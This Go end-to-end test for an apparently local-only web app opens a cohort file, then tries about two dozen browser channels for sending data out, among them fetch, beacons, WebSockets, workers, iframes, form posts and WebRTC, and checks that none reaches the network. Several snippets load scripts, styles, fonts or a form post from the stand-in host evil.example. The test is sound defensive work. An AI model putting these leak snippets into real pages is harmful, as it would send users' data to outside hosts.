package e2e

import (
	"fmt"
	"maps"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
)

// TestWaysOut tries every way that a page has to send something, once a file
// has been opened. None reaches the network, as the proxy of the whole browser
// and a socket for what passes by it see it.
func TestWaysOut(t *testing.T) {
	s := serve(t)
	b := visit(t, s, "/")
	b.ready()
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	var packets atomic.Int32
	go func() {
		for buf := make([]byte, 1500); ; {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			packets.Add(1)
		}
	}()
	b.files(b.file("cohort.tsv", whole(append(numbered("HC%d", 5), numbered("SLE%d", 5)...))))
	b.wait("the file is read", `location.pathname === "/check" && !!document.querySelector("#score:not([disabled])")`)
	mark := b.mark()
	element := func(html string) string {
		return fmt.Sprintf(`(document.body.insertAdjacentHTML("beforeend", %q), new Promise((r) => setTimeout(r, 50)))`, html)
	}
	ways := map[string]string{
		"fetch":       `fetch("%s/app.css?leak").catch(() => {})`,
		"fetch alive": `fetch("%s/app.css?leak", {keepalive: true, mode: "no-cors"}).catch(() => {})`,
		"XHR":         `new Promise((r) => { const x = new XMLHttpRequest(); x.onloadend = r; x.open("GET", "%s/app.css?leak"); x.send(); })`,
		"beacon":      `Promise.resolve(navigator.sendBeacon("%s/?leak", "x"))`,
		"WebSocket":   `new Promise((r) => { try { new WebSocket("%s/?leak".replace("http", "ws")).onerror = r; } catch { r(); } })`,
		"EventSource": `new Promise((r) => { const e = new EventSource("%s/?leak"); e.onerror = () => (e.close(), r()); })`,
		"image":       `new Promise((r) => { const i = new Image(); i.onerror = i.onload = r; i.src = "%s/web/icon-192.png?leak"; })`,
		"script":      `new Promise((r) => { const e = document.createElement("script"); e.onerror = e.onload = r; e.src = "http://evil.example/leak.js"; document.head.append(e); })`,
		"import":      `import("http://evil.example/leak.js").catch(() => {})`,
		"style":       `new Promise((r) => { const e = document.createElement("link"); e.rel = "stylesheet"; e.onerror = e.onload = r; e.href = "http://evil.example/leak.css"; document.head.append(e); })`,
		"font":        `(() => { const f = new FontFace("x", "url(http://evil.example/leak.woff)"); return f.load().catch(() => {}); })()`,
		"own script":  `new Promise((r) => { const e = document.createElement("script"); e.onerror = e.onload = r; e.src = "%s/wasm_exec.js?leak"; document.head.append(e); })`,
		"own import":  `import("%s/wasm_exec.js?leak=1").catch(() => {})`,
		"own style":   `new Promise((r) => { const e = document.createElement("link"); e.rel = "stylesheet"; e.onerror = e.onload = r; e.href = "%s/app.css?leak"; document.head.append(e); })`,
		"own font":    `(() => { const f = new FontFace("x", "url(%s/app.css?leak)"); return f.load().catch(() => {}); })()`,
		"own worker":  `new Promise((r) => { try { const w = new Worker("%s/web/worker.js?leak"); w.onerror = r; setTimeout(r, 200); } catch { r(); } })`,
		"own keeper":  `navigator.serviceWorker.register("%s/service-worker.js?leak").catch(() => {})`,
		"manifest":    `(() => { document.querySelector("link[rel=manifest]").href = "%s/manifest.webmanifest?leak"; return new Promise((r) => setTimeout(r, 200)); })()`,
		"background":  `(() => { const e = document.createElement("p"); e.style.backgroundImage = "url(%s/web/icon.svg?leak)"; document.body.append(e); return new Promise((r) => setTimeout(r, 50)); })()`,
		"prefetch":    element(`<link rel="prefetch" href="%s/app.css?leak"><link rel="dns-prefetch" href="http://evil.example"><link rel="preconnect" href="http://evil.example"><link rel="preload" as="fetch" href="%s/app.css?leak">`),
		"frame":       element(`<iframe src="%s/?leak"></iframe><object data="%s/?leak"></object><embed src="%s/?leak">`),
		"media":       element(`<video src="%s/?leak" poster="%s/?leak"></video><audio src="%s/?leak"></audio>`),
		"form":        `(() => { document.body.insertAdjacentHTML("beforeend", '<form action="http://evil.example/" method="post"><input name="leak"></form>'); document.forms[document.forms.length - 1].submit(); return Promise.resolve(); })()`,
		"worker":      `new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('%s/app.css?leak').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = w.onerror = r; })`,
		"WebRTC": fmt.Sprintf(`new Promise((r) => {
			try {
				const c = new RTCPeerConnection({iceServers: [{urls: "stun:%s"}]});
				c.createDataChannel("x");
				c.onicegatheringstatechange = () => c.iceGatheringState === "complete" && r(); setTimeout(r, 3000);
				c.createOffer().then((o) => c.setLocalDescription(o)).catch(r);
			} catch { r(); }
		})`, udp.LocalAddr()),
	}
	for _, way := range slices.Sorted(maps.Keys(ways)) {
		eval[bool](b, strings.ReplaceAll(ways[way], "%s", s.url)+`.then(() => true)`)
		for _, sent := range b.sent(mark) {
			if strings.HasPrefix(sent, "browser ") { // it has left the browser
				t.Errorf("%s: %s", way, sent)
			}
		}
		mark = b.mark()
	}
	if n := packets.Load(); n > 0 {
		t.Errorf("WebRTC sent %d packets", n)
	}
}
